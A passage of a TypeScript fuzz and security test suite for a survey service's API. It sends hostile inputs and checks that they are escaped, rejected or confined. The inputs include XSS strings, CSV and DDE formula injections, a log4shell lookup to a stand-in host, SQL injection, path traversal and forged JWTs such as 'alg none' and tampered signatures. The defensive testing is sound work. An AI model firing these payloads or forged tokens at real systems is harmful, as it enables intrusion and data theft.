import { createHash } from 'node:crypto';
import { Agent, request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
import { GetQueueAttributesCommand } from '@aws-sdk/client-sqs';
import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { recordsOf } from '../../cli/csv-files';
import { createCaseRepository } from '../../functions/adapters/case-repository';
import { createSurveyRepository } from '../../functions/adapters/survey-repository';
import { addDays } from '../../functions/domain/schedule';
import { segmentNames } from '../../functions/domain/segments';
import { queues } from '../../functions/resources/queues';
import { routes } from '../../functions/resources/routes';
import { surveysTable, tables } from '../../functions/resources/tables';
import { reasonCodes } from '../../functions/schemas/answer';
import type { CaseRecord } from '../../functions/schemas/case';
import { customerCsvColumns } from '../../functions/schemas/customer';
import { storeCsvColumns } from '../../functions/schemas/store';
import { importCustomers } from '../../functions/use-cases/import-customers';
import { importStores } from '../../functions/use-cases/import-stores';
import { runTick } from '../../functions/use-cases/schedule-surveys';
import { startApiServer } from '../../local/api-server';
import { issueDevToken } from '../../local/dev-auth';
import { type IsolatedStack, startIsolatedStack } from '../support/isolated-stack';
import { type StoredEmail, sentEmails } from '../support/ses-store';

/**
 * Bad input and attacks against every public endpoint of the local API (the deployed handlers behind
 * API Gateway's rules): generated bodies, headers, paths, content types and tokens, with a fixed seed.
 * Every answer must be a clear 4xx (never a 5xx), no request may write what it should not, hostile text
 * must come out escaped in every page, e-mail and export, and managers must stay within their stores.
 */

const seed = 20_260_522;
const stats = {
  requests: 0,
  hostile: 0,
  serverErrors: 0,
  unanswered: 0,
  unexpectedWrites: 0,
  unescaped: 0,
  invariants: 0,
};

let stack: IsolatedStack;
let api: Awaited<ReturnType<typeof startApiServer>>;
let port: number;
let domain: string;
const agent = new Agent({ keepAlive: true, maxSockets: 4 });

// ---------------------------------------------------------------------------------------------------
// Hostile text

const attack = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  svg: '"><svg/onload=alert(1)>',
  formula: '=HYPERLINK("http://evil.example","Click me")',
  dde: '+cmd|" /C calc"!A0',
  at: '@SUM(1+1)',
} as const;
const xssComment = `${attack.script}${attack.img}`;

const hostileText = [
  ...Object.values(attack),
  'javascript:alert(1)',
  '\u0000',
  'a\u0000b',
  '\u202eevil',
  '\ud800',
  '\udfff\ud800',
  '😡'.repeat(300),
  'Z̸̡̛̬̫͍̹̩̯̞a̴l̷g̶o',
  '\r\nSet-Cookie: a=b',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  "' OR '1'='1",
  '"; DROP TABLE x; --',
  '../../etc/passwd',
  '%00',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'toString',
  'x'.repeat(2001),
  'NaN',
  '1e400',
];

/** Percent-encodes every byte that is not unreserved (lone surrogates become U+FFFD, as in a browser). */
const percentEncode = (text: string) =>
  [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

const formOf = (fields: readonly (readonly [string, string])[]) =>
  new URLSearchParams(fields.map(([name, value]): [string, string] => [name, value])).toString();

/** Markup a page must never carry: only its own nonce'd script, no handler attributes, no injected tags. */
const foreignMarkup = (page: string) => {
  const scripts = page.match(/<script\b[^>]*>/gi) ?? [];
  const outside = page.replace(/<script nonce="[^"]+">[\s\S]*?<\/script>/g, '');
  const found: string[] = [];
  if (scripts.length > 1 || scripts.some((tag) => !/^<script nonce="[^"]+">$/.test(tag)))
    found.push('a script without the page nonce');
  if (/<(img|svg|iframe|object|embed|math)\b/i.test(outside)) found.push('an injected element');
  if (/<[a-z][^>]*\son[a-z]+\s*=/i.test(outside)) found.push('an event-handler attribute');
  if (/<[a-z][^>]*javascript:/i.test(outside)) found.push('a javascript: URL');
  if (/<[a-z][^>]*alert\(1\)/i.test(outside)) found.push('the injected payload, unescaped');
  return found;
};

// ---------------------------------------------------------------------------------------------------
// Sending requests and checking every answer

interface Probe {
  /** What is being tried, for the failure message. */
  readonly label: string;
  readonly method: string;
  /** Sent as is (no normalisation), so traversal and bad encodings reach the server. */
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer;
  /** The statuses this request may get; anything else fails. */
  readonly allowed: readonly number[];
  /** A bad or hostile input (a fault injected), as opposed to a well-formed control request. */
  readonly hostile: boolean;
  /** The stores whose data the caller may see: `all`, a list, or none (anonymous). */
  readonly sees?: 'all' | readonly string[];
}

interface Reply {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

const send = (probe: Pick<Probe, 'method' | 'path' | 'headers' | 'body'>) =>
  new Promise<Reply>((resolve, reject) => {
    const body = probe.body === undefined ? undefined : Buffer.from(probe.body);
    const request = httpRequest(
      {
        host: '127.0.0.1',
        port,
        agent,
        method: probe.method,
        path: probe.path,
        headers: { ...probe.headers, ...(body && { 'content-length': String(body.length) }) },
      },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('error', reject);
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
      },
    );
    request.setTimeout(30_000, () => request.destroy(new Error('no answer within 30 s')));
    request.on('error', reject);
    request.end(body);
  });

const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort().join(',');
const seededEmails: string[] = [];
const secret = () => process.env.LOCAL_AUTH_SECRET ?? '';

/** Counts an invariant, and fails with what was sent and received when it does not hold. */
const check = (holds: boolean, invariant: string, probe: Probe, reply?: Reply) => {
  stats.invariants++;
  if (holds) return;
  throw new Error(
    `${invariant}\n  probe: ${probe.label}: ${probe.method} ${probe.path.slice(0, 300)}` +
      (reply ? `\n  got ${reply.status}: ${reply.body.slice(0, 500)}` : ''),
  );
};

const storeIdsIn = (value: unknown, found = new Set<string>()): Set<string> => {
  if (Array.isArray(value)) for (const item of value) storeIdsIn(item, found);
  else if (value !== null && typeof value === 'object') {
    for (const [key, item] of Object.entries(value)) {
      if (key === 'storeId' && typeof item === 'string') found.add(item);
      else storeIdsIn(item, found);
    }
  }
  return found;
};

/** Sends a probe and checks every invariant that holds for any answer. */
const probe = async (request: Probe) => {
  stats.requests++;
  if (request.hostile) stats.hostile++;
  let reply: Reply;
  try {
    reply = await send(request);
  } catch (error) {
    stats.unanswered++;
    check(false, `every request gets an answer (${(error as Error).message})`, request);
    throw error;
  }
  if (reply.status >= 500) stats.serverErrors++;
  check(reply.status < 500, 'never a 5xx', request, reply);
  check(request.allowed.includes(reply.status), `status is one of ${request.allowed}`, request, reply);
  check(
    Object.getOwnPropertyNames(Object.prototype).sort().join(',') === prototypeKeys &&
      ({} as Record<string, unknown>).polluted === undefined,
    'Object.prototype is untouched',
    request,
    reply,
  );
  if (request.method === 'HEAD') return reply;
  const type = String(reply.headers['content-type'] ?? '');
  check(/^(application\/json|text\/html)/.test(type), 'the answer is JSON or HTML', request, reply);
  check(!/\bat \S+ \(|\.[jt]s:\d+:\d+|node_modules/.test(reply.body), 'no stack trace', request, reply);
  check(!reply.body.includes(secret()), 'no secret in the answer', request, reply);
  if (type.startsWith('application/json')) {
    let json: unknown;
    check(
      (() => {
        try {
          json = JSON.parse(reply.body);
          return true;
        } catch {
          return false;
        }
      })(),
      'a JSON answer parses',
      request,
      reply,
    );
    if (reply.status >= 400) {
      const message = (json as { message?: unknown } | null)?.message;
      check(typeof message === 'string' && message.length > 0, 'an error says what is wrong', request, reply);
    }
    const sees = request.sees ?? [];
    if (sees !== 'all') {
      const foreign = [...storeIdsIn(json)].filter((storeId) => !sees.includes(storeId));
      check(foreign.length === 0, `no data of stores the caller may not see (${foreign})`, request, reply);
    }
  } else {
    const markup = foreignMarkup(reply.body);
    if (markup.length > 0) stats.unescaped++;
    check(markup.length === 0, `no injected markup in a page (${markup})`, request, reply);
    check(
      /default-src 'none'/.test(String(reply.headers['content-security-policy'] ?? '')),
      'a page has a strict Content-Security-Policy',
      request,
      reply,
    );
    check(/<title>[^<]+<\/title>/.test(reply.body), 'a page has a title', request, reply);
    if (reply.status >= 400)
      check(/<p>[^<]+<\/p>/.test(reply.body), 'an error page says what is wrong', request, reply);
  }
  if (request.sees === undefined) {
    const leaked = seededEmails.filter((email) => reply.body.includes(email));
    check(leaked.length === 0, `no e-mail address to an anonymous caller (${leaked})`, request, reply);
  }
  return reply;
};

/** Runs a property over generated probes with the fixed seed; a failure is shrunk to its simplest case. */
const fuzz = async (arbitrary: fc.Arbitrary<Probe>, numRuns: number, offset: number) => {
  await fc.assert(
    fc.asyncProperty(arbitrary, async (request) => {
      await probe(request);
    }),
    { seed: seed + offset, numRuns },
  );
};

// ---------------------------------------------------------------------------------------------------
// Tables, queues and mail: what a request may have written

const canonical = (value: unknown, key?: string): unknown => {
  if (value instanceof Uint8Array) return Buffer.from(value).toString('base64');
  if (Array.isArray(value)) {
    const items = value.map((item) => canonical(item));
    return key === 'SS' || key === 'NS' || key === 'BS' ? items.map(String).sort() : items;
  }
  if (value !== null && typeof value === 'object') {
    const record = value as Record<string, unknown>;
    return Object.fromEntries(
      Object.keys(record)
        .sort()
        .map((name) => [name, canonical(record[name], name)]),
    );
  }
  return value;
};

/** Every item of every table of this stack, as key → hash of the whole item. */
const snapshotTables = async () => {
  const client = new DynamoDBClient({});
  const snapshot = new Map<string, string>();
  try {
    for (const table of tables) {
      let ExclusiveStartKey: Record<string, never> | undefined;
      do {
        const page = await client.send(
          new ScanCommand({ TableName: stack.env[table.envVar], ConsistentRead: true, ExclusiveStartKey }),
        );
        for (const item of page.Items ?? []) {
          const keyNames = [table.partitionKey.name, ...('sortKey' in table ? [table.sortKey.name] : [])];
          const key = keyNames.map((name) => JSON.stringify(canonical(item[name]))).join('|');
          snapshot.set(
            `${table.id} ${key}`,
            createHash('sha256')
              .update(JSON.stringify(canonical(item)))
              .digest('hex'),
          );
        }
        ExclusiveStartKey = page.LastEvaluatedKey as Record<string, never> | undefined;
      } while (ExclusiveStartKey);
    }
  } finally {
    client.destroy();
  }
  return snapshot;
};

const changesBetween = (before: Map<string, string>, after: Map<string, string>) =>
  [...new Set([...before.keys(), ...after.keys()])]
    .filter((key) => before.get(key) !== after.get(key))
    .map((key) => `${before.has(key) ? (after.has(key) ? 'changed' : 'deleted') : 'added'} ${key}`)
    .sort();

const queueDepths = async () =>
  Promise.all(
    queues.map(async (queue) => {
      const { Attributes } = await stack.sqs.send(
        new GetQueueAttributesCommand({
          QueueUrl: stack.env[queue.envVar],
          AttributeNames: ['ApproximateNumberOfMessages', 'ApproximateNumberOfMessagesNotVisible'],
        }),
      );
      return `${queue.id}: ${Attributes?.ApproximateNumberOfMessages}+${Attributes?.ApproximateNumberOfMessagesNotVisible}`;
    }),
  );

const ourEmails = () => sentEmails((to) => to.endsWith(`@${domain}`));

// ---------------------------------------------------------------------------------------------------
// The data: two stores, customers with hostile names, answered, expired and open surveys

const managerOf = (store: string) => `manager.${store.toLowerCase()}@${domain}`;
const customerEmail = (id: string) => `${id.toLowerCase()}@${domain}`;
const surveyToken = new Map<string, string>();
const tokenOf = (customer: string) => surveyToken.get(customer) ?? '';
const caseOf = new Map<string, string>();
let exportJobId = '';

type Who = 's1' | 's2' | 'marketing' | 'customer' | 'noEmail';
const bearer = {} as Record<Who, string>;
const seesOf: Record<Who, 'all' | readonly string[]> = {
  s1: ['S1'],
  s2: ['S2'],
  marketing: 'all',
  customer: [],
  noEmail: [],
};
const forged: { label: string; authorization?: string }[] = [];

const answerViaApi = (token: string, body: string, headers: Record<string, string>) =>
  send({ method: 'POST', path: `/s/${token}`, headers, body });

beforeAll(async () => {
  stack = await startIsolatedStack('fuzz');
  domain = `${stack.namespace}.example.com`;
  api = await startApiServer({ port: 0 });
  port = Number(new URL(api.url).port);
  await importStores(
    recordsOf([
      [...storeCsvColumns],
      ['S1', `Lyon ${attack.img}`, managerOf('S1'), `region@${domain}`, 'Europe/Paris'],
      ['S2', 'Boston Back Bay', managerOf('S2'), `region@${domain}`, 'Europe/Paris'],
    ]),
    { stores: stack.stores },
  );
  const customers = [
    ['C1', attack.img, attack.formula, 'S1'],
    ['C2', attack.at, "O'Hara", 'S1'],
    ['C3', 'Expired', 'Survey', 'S1'],
    ['C4', 'Deliberate', 'Answer', 'S1'],
    ['C5', 'Other', 'Store', 'S2'],
    ['C6', 'Open', 'Survey', 'S2'],
  ];
  await importCustomers(
    recordsOf([
      [...customerCsvColumns],
      ...customers.map(([id = '', first = '', last = '', store = '']) => [
        id,
        customerEmail(id),
        first,
        last,
        store,
        'en',
      ]),
    ]),
    { customers: stack.customers, stores: stack.stores },
  );
  seededEmails.push(...customers.map(([id = '']) => customerEmail(id)), managerOf('S1'), managerOf('S2'));
  const firstWave = new Date(`${addDays(new Date(), 30).toISOString().slice(0, 10)}T12:00:00.000Z`);
  await runTick(stack.schedule, firstWave);
  await stack.consumers.invitations.drain();
  for (const email of await ourEmails()) {
    const token = /\/s\/([A-Za-z0-9_-]{22})\?/.exec(email.body.html ?? '')?.[1];
    const customer = /^(c\d)@/.exec(email.destination.to[0] ?? '')?.[1]?.toUpperCase();
    if (token && customer) surveyToken.set(customer, token);
  }
  expect([...surveyToken.keys()].sort()).toEqual(['C1', 'C2', 'C3', 'C4', 'C5', 'C6']);
  // C3's survey closed a minute ago.
  await stack.db.send(
    new UpdateCommand({
      TableName: stack.env.SURVEYS_TABLE,
      Key: { token: tokenOf('C3') },
      UpdateExpression: 'SET expiresAt = :past',
      ExpressionAttributeValues: { ':past': new Date(Date.now() - 60_000).toISOString() },
    }),
  );

  const sign = (claims: Record<string, unknown>, key = secret(), alg = 'HS256') =>
    new SignJWT(claims)
      .setProtectedHeader({ alg })
      .setIssuer('closeloop-local')
      .setAudience('closeloop-managers')
      .setIssuedAt()
      .setExpirationTime('1h')
      .sign(new TextEncoder().encode(key));
  bearer.s1 = `Bearer ${await issueDevToken(secret(), managerOf('S1'))}`;
  bearer.s2 = `Bearer ${await issueDevToken(secret(), managerOf('S2'))}`;
  bearer.marketing = `Bearer ${await issueDevToken(secret(), `marketing@${domain}`, 1, ['marketing'])}`;
  bearer.customer = `Bearer ${await issueDevToken(secret(), customerEmail('C1'))}`;
  bearer.noEmail = `Bearer ${await sign({ sub: 'someone' })}`;

  const now = Math.floor(Date.now() / 1000);
  const segment = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const claims = { email: managerOf('S1'), 'cognito:groups': ['admin'] };
  const [header = '', payload = '', signature = ''] = (bearer.s2.split(' ')[1] ?? '').split('.');
  forged.push(
    { label: 'no token' },
    { label: 'an empty bearer', authorization: 'Bearer ' },
    { label: 'garbage', authorization: 'Bearer not.a.jwt' },
    { label: 'basic credentials', authorization: 'Basic YWRtaW46YWRtaW4=' },
    { label: 'a token without the scheme', authorization: bearer.s1.slice('Bearer '.length) },
    { label: 'two tokens', authorization: `${bearer.s1} ${bearer.s1.slice('Bearer '.length)}` },
    {
      label: 'alg none',
      authorization: `Bearer ${segment({ alg: 'none', typ: 'JWT' })}.${segment({ ...claims, iss: 'closeloop-local', aud: 'closeloop-managers', exp: now + 3600 })}.`,
    },
    { label: 'the wrong secret', authorization: `Bearer ${await sign(claims, 'not-the-secret')}` },
    {
      label: 'HS512 with the right secret',
      authorization: `Bearer ${await sign(claims, secret(), 'HS512')}`,
    },
    {
      label: 'expired',
      authorization: `Bearer ${await new SignJWT(claims)
        .setProtectedHeader({ alg: 'HS256' })
        .setIssuer('closeloop-local')
        .setAudience('closeloop-managers')
        .setIssuedAt(now - 7200)
        .setExpirationTime(now - 60)
        .sign(new TextEncoder().encode(secret()))}`,
    },
    {
      label: 'not yet valid',
      authorization: `Bearer ${await new SignJWT(claims)
        .setProtectedHeader({ alg: 'HS256' })
        .setIssuer('closeloop-local')
        .setAudience('closeloop-managers')
        .setNotBefore(now + 3600)
        .setExpirationTime(now + 7200)
        .sign(new TextEncoder().encode(secret()))}`,
    },
    {
      label: 'the wrong audience',
      authorization: `Bearer ${await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setIssuer('closeloop-local').setAudience('someone-else').setExpirationTime('1h').sign(new TextEncoder().encode(secret()))}`,
    },
    {
      label: 'the wrong issuer',
      authorization: `Bearer ${await new SignJWT(claims).setProtectedHeader({ alg: 'HS256' }).setIssuer('https://evil.example').setAudience('closeloop-managers').setExpirationTime('1h').sign(new TextEncoder().encode(secret()))}`,
    },
    {
      label: 'a tampered payload',
      authorization: `Bearer ${header}.${segment({ ...claims, exp: now + 3600 })}.${signature}`,
    },
    { label: 'a stripped signature', authorization: `Bearer ${header}.${payload}.` },
  );
}, 240_000);

afterAll(async () => {
  agent.destroy();
  await stack?.stop();
  await api?.stop();
});

// ---------------------------------------------------------------------------------------------------

const escapedXss = '&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;';
const expectNeutralised = (html: string | undefined, where: string) => {
  stats.invariants++;
  const markup = foreignMarkup(html ?? '');
  if (markup.length > 0 || html === undefined) stats.unescaped++;
  expect(html, where).toBeDefined();
  expect(markup, where).toEqual([]);
  expect(html, where).not.toContain(attack.script);
  expect(html, where).not.toContain(attack.img);
};
const emailsTo = async (to: string, subject: RegExp) =>
  (await ourEmails()).filter(
    (email: StoredEmail) => email.destination.to.includes(to) && subject.test(email.subject),
  );

describe('hostile text in answers, names and store names', () => {
  it('is recognised by the markup check when it is not escaped', () => {
    expect(foreignMarkup(`<p>${xssComment}</p>`)).toContain('an injected element');
    expect(foreignMarkup('<a href="javascript:alert(1)">x</a>')).toContain('a javascript: URL');
    expect(foreignMarkup('<script nonce="n">ok()</script><script>alert(1)</script>')).toContain(
      'a script without the page nonce',
    );
    expect(foreignMarkup(`<p>${escapedXss}</p><script nonce="n">ok()</script>`)).toEqual([]);
  });

  it('comes back escaped in the thank-you page and the survey page', async () => {
    const thanks = await answerViaApi(
      tokenOf('C1'),
      formOf([
        ['score', '2'],
        ['comment', xssComment],
        ['reasons', 'staff'],
      ]),
      { 'content-type': 'application/x-www-form-urlencoded' },
    );
    expect(thanks.status).toBe(200);
    expect(thanks.headers['content-type']).toContain('text/html');
    expectNeutralised(thanks.body, 'thank-you page');
    expect(thanks.body).toContain('Lyon &lt;img src=x onerror=alert(1)&gt;');

    const answered = await send({ method: 'GET', path: `/s/${tokenOf('C1')}` });
    expect(answered.status).toBe(200);
    expectNeutralised(answered.body, 'survey page with the answer');
    expect(answered.body).toContain(escapedXss);

    for (const [customer, score, comment] of [
      ['C2', 0, attack.formula],
      ['C5', 1, `${attack.svg} slow`],
    ] as const) {
      const reply = await answerViaApi(tokenOf(customer), JSON.stringify({ score, comment }), {
        'content-type': 'application/json',
        accept: 'application/json',
      });
      expect(reply.status).toBe(200);
    }
    await stack.consumers.answerStream.drain();
    await stack.consumers.followUps.drain();
    const cases = createCaseRepository(stack.db, stack.env.CASES_TABLE ?? '');
    const surveys = createSurveyRepository(stack.db, stack.env.SURVEYS_TABLE ?? '');
    for (const customer of ['C1', 'C2', 'C5']) {
      const surveyId = (await surveys.get(tokenOf(customer)))?.surveyId ?? '';
      expect(await cases.get(surveyId), customer).toBeDefined();
      caseOf.set(customer, surveyId);
    }
  });

  it('comes out escaped in the invitation and the manager’s alert', async () => {
    const [invitation] = await emailsTo(customerEmail('C1'), /./);
    expectNeutralised(invitation?.body.html, 'invitation');
    expect(invitation?.body.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    const alerts = await emailsTo(managerOf('S1'), /^Detractor at/);
    expect(alerts).toHaveLength(2);
    for (const alert of alerts) expectNeutralised(alert.body.html, `alert ${alert.subject}`);
    const alert = alerts.find((email) => email.body.text?.includes(customerEmail('C1')));
    expect(alert?.body.html).toContain(escapedXss);
    expect(alert?.body.text).toContain(xssComment);
  });

  it('is served as JSON, not markup, by the managers’ API and the dashboard', async () => {
    const listed = await send({ method: 'GET', path: '/m/cases', headers: { authorization: bearer.s1 } });
    expect(listed.status).toBe(200);
    expect(listed.headers['content-type']).toMatch(/^application\/json/);
    expect(listed.headers['x-content-type-options']).toBe('nosniff');
    const { cases } = JSON.parse(listed.body) as { cases: CaseRecord[] };
    expect(cases.find((one) => one.caseId === caseOf.get('C1'))?.comment).toBe(xssComment);
    const dashboard = await send({
      method: 'GET',
      path: '/r/dashboard',
      headers: { authorization: bearer.marketing },
    });
    expect(dashboard.status).toBe(200);
    expect(dashboard.headers['content-type']).toMatch(/^application\/json/);
    stats.invariants += 2;
  });

  it('comes out escaped in the daily digest and the escalation', async () => {
    const later = new Date(`${addDays(new Date(), 31).toISOString().slice(0, 10)}T12:00:00.000Z`);
    const tick = await runTick(stack.schedule, later);
    expect(tick.digests).toBeGreaterThanOrEqual(1);
    expect(tick.escalations).toBe(3);
    await stack.consumers.followUps.drain();
    await stack.consumers.invitations.drain();
    const [digest] = await emailsTo(managerOf('S1'), /daily NPS digest/);
    expectNeutralised(digest?.body.html, 'digest');
    expect(digest?.body.html).toContain(escapedXss);
    const escalations = await emailsTo(`region@${domain}`, /^Overdue follow-up/);
    expect(escalations).toHaveLength(3);
    for (const email of escalations) expectNeutralised(email.body.html, `escalation ${email.subject}`);
  });

  it('is neutralised in a CSV export, which marketing may start', async () => {
    const started = await send({
      method: 'POST',
      path: '/r/exports',
      headers: { authorization: bearer.marketing, 'content-type': 'application/json' },
      body: JSON.stringify({ segment: 'detractors', format: 'csv' }),
    });
    expect(started.status).toBe(202);
    exportJobId = (JSON.parse(started.body) as { jobId: string }).jobId;
    await stack.consumers.exports.drain();
    const status = await send({
      method: 'GET',
      path: `/r/exports/${exportJobId}`,
      headers: { authorization: bearer.marketing },
    });
    const { downloadUrl } = JSON.parse(status.body) as { downloadUrl: string };
    const records = parse(await (await fetch(downloadUrl)).text(), { columns: true }) as Record<
      string,
      string
    >[];
    const row = (customer: string) => records.find((record) => record.customerId === customer);
    expect(records.map((record) => record.customerId).sort()).toEqual(['C1', 'C2', 'C5']);
    expect(row('C1')).toMatchObject({
      firstName: attack.img,
      lastName: `'${attack.formula}`,
      comment: xssComment,
    });
    expect(row('C2')).toMatchObject({ firstName: `'${attack.at}`, comment: `'${attack.formula}` });
    const formulas = records
      .flatMap((record) => Object.values(record))
      .filter((cell) => /^[=+\-@\t\r]/.test(cell));
    stats.invariants += records.length;
    stats.unescaped += formulas.length;
    expect(formulas).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------------

const managerRoutes = routes.filter((route) => 'auth' in route && route.auth === 'manager');
const publicRoutes = routes.filter((route) => !('auth' in route));
const pathOf = (template: string, parameters: Record<string, string>) =>
  template.replace(/\{(\w+)\}/g, (_, name: string) => parameters[name] ?? 'x');
const validBodyOf = (path: string) =>
  path.startsWith('/r/exports') ? '{"segment":"promoters"}' : '{"status":"contacted","note":"Called."}';

describe('access, bad input and attacks', () => {
  let before: Map<string, string>;
  let queuesBefore: string[];
  let mailBefore: number;

  beforeAll(async () => {
    before = await snapshotTables();
    queuesBefore = await queueDepths();
    mailBefore = (await ourEmails()).length;
  });

  it('declares as public only the customer links, health and the two data-less pages', () => {
    expect(publicRoutes.map((route) => `${route.method} ${route.path}`).sort()).toEqual([
      'GET /d',
      'GET /health',
      'GET /m',
      'GET /s/{token}',
      'GET /u/{token}',
      'POST /s/{token}',
      'POST /u/{token}',
    ]);
    expect(managerRoutes.length).toBeGreaterThanOrEqual(7);
  });

  it('refuses every manager route without a valid token: none, forged, expired or for someone else', async () => {
    for (const route of managerRoutes) {
      const path = pathOf(route.path, { caseId: caseOf.get('C1') ?? '', jobId: exportJobId });
      const body = route.method === 'POST' ? validBodyOf(path) : undefined;
      for (const { label, authorization } of forged) {
        await probe({
          label: `${route.method} ${route.path} with ${label}`,
          method: route.method,
          path,
          headers: { 'content-type': 'application/json', ...(authorization && { authorization }) },
          body,
          allowed: [401],
          hostile: true,
        });
      }
      // The same request with a real token gets through the door (whatever the function then says).
      const genuine = await send({
        method: route.method,
        path,
        headers: { 'content-type': 'application/json', authorization: bearer.s2 },
        body,
      });
      expect(genuine.status, `${route.method} ${route.path}`).not.toBe(401);
    }
  });

  it('confines a manager to their store: another store’s case, report and exports are 403', async () => {
    const s1Case = `/m/cases/${caseOf.get('C1')}`;
    const asS2 = { sees: ['S2'], hostile: true } as const;
    const s2 = { authorization: bearer.s2, 'content-type': 'application/json' };
    await probe({
      ...asS2,
      label: 'S2 reads S1 case',
      method: 'GET',
      path: s1Case,
      headers: s2,
      allowed: [403],
    });
    await probe({
      ...asS2,
      label: 'S2 updates S1 case',
      method: 'POST',
      path: s1Case,
      headers: s2,
      body: '{"status":"resolved","note":"not mine"}',
      allowed: [403],
    });
    for (const path of ['/r/report?store=S1', '/r/dashboard?store=S1'])
      await probe({ ...asS2, label: `S2 asks ${path}`, method: 'GET', path, headers: s2, allowed: [403] });
    await probe({
      ...asS2,
      label: 'S2 starts an export',
      method: 'POST',
      path: '/r/exports',
      headers: s2,
      body: '{"segment":"detractors"}',
      allowed: [403],
    });
    await probe({
      ...asS2,
      label: 'S2 reads marketing’s export',
      method: 'GET',
      path: `/r/exports/${exportJobId}`,
      headers: s2,
      allowed: [403],
    });
    const own = await probe({
      label: 'S2 reads its report',
      method: 'GET',
      path: '/r/report',
      headers: s2,
      allowed: [200],
      hostile: false,
      sees: ['S2'],
    });
    expect((JSON.parse(own.body) as { stores: { storeId: string }[] }).stores.map((s) => s.storeId)).toEqual([
      'S2',
    ]);
    const ownCases = await probe({
      label: 'S2 lists its cases',
      method: 'GET',
      path: '/m/cases',
      headers: s2,
      allowed: [200],
      hostile: false,
      sees: ['S2'],
    });
    expect((JSON.parse(ownCases.body) as { cases: CaseRecord[] }).cases.map((one) => one.caseId)).toEqual([
      caseOf.get('C5'),
    ]);
    await probe({
      label: 'S1 reads its case',
      method: 'GET',
      path: s1Case,
      headers: { authorization: bearer.s1 },
      allowed: [200],
      hostile: false,
      sees: ['S1'],
    });
    await probe({
      label: 'a customer’s own address as a token',
      method: 'GET',
      path: s1Case,
      headers: { authorization: bearer.customer },
      allowed: [403],
      hostile: true,
      sees: [],
    });
  });

  // ----- generated requests --------------------------------------------------------------------------

  const headerValue = fc.oneof(
    fc.stringMatching(/^[\x21-\x7e][\x20-\x7e]{0,80}$/),
    fc.constantFrom(...hostileText.filter((text) => /^[\x21-\x7e][\x20-\x7e]*$/.test(text))),
    fc.constant('x'.repeat(1500)),
  );
  const reservedHeaders = new Set(
    'content-length transfer-encoding connection host expect upgrade te trailer keep-alive proxy-connection content-type authorization accept'.split(
      ' ',
    ),
  );
  const randomHeaders = fc
    .tuple(
      fc.dictionary(
        fc.stringMatching(/^[a-z][a-z0-9-]{0,24}$/).filter((name) => !reservedHeaders.has(name)),
        headerValue,
        { maxKeys: 4 },
      ),
      fc.record(
        {
          'x-http-method-override': fc.constantFrom('POST', 'DELETE', 'PUT'),
          'x-forwarded-for': fc.constantFrom('127.0.0.1', '10.0.0.1, 1.2.3.4', '<script>'),
          'x-forwarded-host': fc.constantFrom('evil.example', 'localhost'),
          cookie: fc.constantFrom('session=admin', '__proto__=x; a=b', 'a='.repeat(200)),
          'user-agent': headerValue,
          'accept-language': fc.constantFrom(
            'fr',
            '*',
            'xx-INVALID',
            'en;q=abc',
            '<img src=x onerror=alert(1)>',
          ),
          accept: fc.constantFrom('application/json', 'text/html', '*/*', 'application/xml', 'garbage', ''),
        },
        { requiredKeys: [] },
      ),
    )
    .map(([random, known]) => ({ ...random, ...known }) as Record<string, string>);

  const jsonTypes = ['application/json', 'application/json; charset=utf-8', 'Application/JSON'];
  const wrongTypes = [
    'text/plain',
    'text/html',
    'application/xml',
    'multipart/form-data; boundary=x',
    'application/octet-stream',
    'image/png',
    'application/jsonp',
    'application/json-patch+json',
    'application/x-www-form-urlencoded-x',
    '',
  ];
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ unit: 'grapheme', maxLength: 20 }),
    fc.constantFrom(...hostileText),
  );
  const isValidScore = (value: unknown) =>
    (typeof value === 'number' && Number.isInteger(value) && value >= 0 && value <= 10) ||
    (typeof value === 'string' && /^\s*\d{1,2}\s*$/.test(value) && Number(value) <= 10);
  const invalidScoreText = fc
    .oneof(
      fc.constantFrom(
        'NaN',
        'Infinity',
        '-1',
        '11',
        '99',
        '1e1',
        '0x5',
        '٣',
        '１０',
        '5.0',
        '+5',
        '011',
        ' ',
      ),
      fc.string({ maxLength: 6 }),
      fc.constantFrom(...hostileText),
    )
    .filter((value) => !isValidScore(value));
  const invalidScore = fc
    .oneof(
      fc.integer({ min: 11 }),
      fc.integer({ max: -1 }),
      fc.double(),
      fc.constantFrom(1e308, -1e308, 2 ** 64, 1e-320, Number.NaN),
      invalidScoreText,
      fc.jsonValue({ maxDepth: 2 }),
    )
    .filter((value) => !isValidScore(JSON.parse(JSON.stringify(value) ?? 'null')));
  const anyKey = fc.oneof(
    fc.string({ maxLength: 12 }),
    fc.constantFrom('__proto__', 'constructor', 'prototype', 'comment', 'reasons', 'source', 'score'),
  );
  const jsonObject = (entries: readonly (readonly [string, unknown])[]) =>
    `{${entries
      .filter(([, value]) => value !== undefined)
      .map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`)
      .join(',')}}`;
  const pollution = fc.constantFrom(
